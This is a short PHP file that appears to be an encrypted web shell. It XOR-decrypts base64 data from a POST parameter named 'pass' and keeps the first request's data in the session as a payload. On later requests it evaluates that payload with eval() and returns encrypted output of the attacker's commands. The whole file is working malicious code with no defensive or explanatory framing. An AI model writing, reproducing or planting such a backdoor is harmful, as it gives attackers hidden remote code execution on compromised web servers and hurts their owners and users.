<?php
@session_start();
function xcode($data, $key)
{
	for ($i = 0; $i < strlen($data); $i++) {
		$data[$i] = $data[$i] ^ $key[($i + 1) & 15];
	}
	return $data;
}
$key = '0f1e2d3c4b5a6978';
if (isset($_POST['pass'])) {
	$data = xcode(base64_decode($_POST['pass']), $key);
	if (isset($_SESSION['payload'])) {
		$payload = xcode($_SESSION['payload'], $key);
		eval($payload);
		echo base64_encode(xcode(run($data), $key));
	} else {
		$_SESSION['payload'] = xcode($data, $key);
	}
}
